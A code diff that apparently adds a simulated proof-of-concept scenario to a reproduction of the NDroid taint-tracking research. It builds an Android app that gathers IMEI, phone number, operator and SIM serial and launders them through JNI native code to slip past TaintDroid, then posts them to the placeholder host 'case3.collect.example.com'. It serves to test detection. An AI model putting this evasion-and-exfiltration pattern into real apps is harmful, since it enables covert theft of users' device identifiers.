@@ -1,0 +1,117 @@
+"""The paper's PoC of case 3 (Fig. 9).
+
+The Java code collects device information (device id, line-1 number,
+network operator, SIM serial) into one string and calls the native method
+``evadeTaintDroid``.  The native code wraps the data in a fresh Java
+String (``NewStringUTF``) and invokes the Java method ``nativeCallback``
+through ``CallVoidMethod`` → ``dvmCallMethodV`` → ``dvmInterpret``, which
+transmits it.  TaintDroid alone sees an untainted String arrive at the
+callback (the DVM cleared the frame's taint slots); NDroid re-taints both
+the new String object and the callback's frame slot.
+"""
+
+from __future__ import annotations
+
+from repro.apps.base import Scenario
+from repro.common.taint import (
+    TAINT_ICCID, TAINT_IMEI, TAINT_PHONE_NUMBER,
+)
+from repro.dalvik.classes import ClassDef, MethodBuilder
+from repro.framework.apk import Apk
+from repro.jni.slots import jni_offset
+
+CLASS_NAME = "Lcom/ndroid/demos/Demos;"
+DESTINATION = "case3.collect.example.com:80"
+
+# The combined device-info string carries the union of its sources.
+EXPECTED_TAINT = TAINT_IMEI | TAINT_PHONE_NUMBER | TAINT_ICCID
+
+
+def build() -> Scenario:
+    """Build the Fig. 9 PoC scenario."""
+    demos = ClassDef(CLASS_NAME)
+    demos.add_method(
+        MethodBuilder(CLASS_NAME, "evadeTaintDroid", "VL", static=True,
+                      native=True).build())
+
+    # nativeCallback(String): sends the data out (shorty VL).
+    callback = MethodBuilder(CLASS_NAME, "nativeCallback", "VL",
+                             static=True, registers=3)
+    callback.const_string(0, DESTINATION)
+    callback.invoke_static("Lorg/apache/http/client/HttpClient;->post", 0, 2)
+    callback.ret_void()
+    demos.add_method(callback.build())
+
+    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=8)
+    main.const_string(0, "libdemos3.so")
+    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
+    # Collect device info: "...Line1Number = 15555215554
+    # NetworkOperator = 310260..." (Fig. 9).
+    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
+    main.move_result_object(1)
+    main.invoke_static("Landroid/telephony/TelephonyManager;->getLine1Number")
+    main.move_result_object(2)
+    main.invoke_static(
+        "Landroid/telephony/TelephonyManager;->getNetworkOperator")
+    main.move_result_object(3)
+    main.invoke_static(
+        "Landroid/telephony/TelephonyManager;->getSimSerialNumber")
+    main.move_result_object(4)
+    main.string_concat(5, 1, 2)
+    main.string_concat(5, 5, 3)
+    main.string_concat(5, 5, 4)
+    main.invoke_static(f"{CLASS_NAME}->evadeTaintDroid", 5)
+    main.ret_void()
+    demos.add_method(main.build())
+
+    native = f"""
+    Java_com_ndroid_demos_Demos_evadeTaintDroid:
+        ; env=r0 jclass=r1 info=r2 (tainted jstring)
+        push {{r4, r5, r6, r7, lr}}
+        mov r4, r0
+        mov r7, r1
+        ; chars = GetStringUTFChars(env, info, NULL)
+        ldr ip, [r4]
+        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
+        mov r1, r2
+        mov r2, #0
+        blx ip
+        mov r5, r0
+        ; wrapped = NewStringUTF(env, chars)               (step 1)
+        ldr ip, [r4]
+        ldr ip, [ip, #{jni_offset('NewStringUTF')}]
+        mov r0, r4
+        mov r1, r5
+        blx ip
+        mov r6, r0
+        ; mid = GetStaticMethodID(env, jclass, "nativeCallback", 0)
+        ldr ip, [r4]
+        ldr ip, [ip, #{jni_offset('GetStaticMethodID')}]
+        mov r0, r4
+        mov r1, r7
+        ldr r2, =cb_name
+        mov r3, #0
+        blx ip
+        mov r2, r0
+        ; CallStaticVoidMethod(env, jclass, mid, wrapped)  (step 2)
+        ldr ip, [r4]
+        ldr ip, [ip, #{jni_offset('CallStaticVoidMethod')}]
+        mov r0, r4
+        mov r1, r7
+        mov r3, r6
+        blx ip
+        pop {{r4, r5, r6, r7, pc}}
+    cb_name:
+        .asciz "nativeCallback"
+    """
+    apk = Apk(package="com.ndroid.demos.case3", category="Tools",
+              classes=[demos], native_libraries={"libdemos3.so": native},
+              load_library_calls=["libdemos3.so"])
+    return Scenario(
+        name="poc_case3", apk=apk, case="3",
+        expected_taint=EXPECTED_TAINT,
+        expected_destination="case3.collect.example.com",
+        taintdroid_alone_detects=False,
+        description="PoC of case 3: device info wrapped by NewStringUTF "
+                    "and pushed through CallVoidMethod to a transmitting "
+                    "Java callback (Fig. 9)")
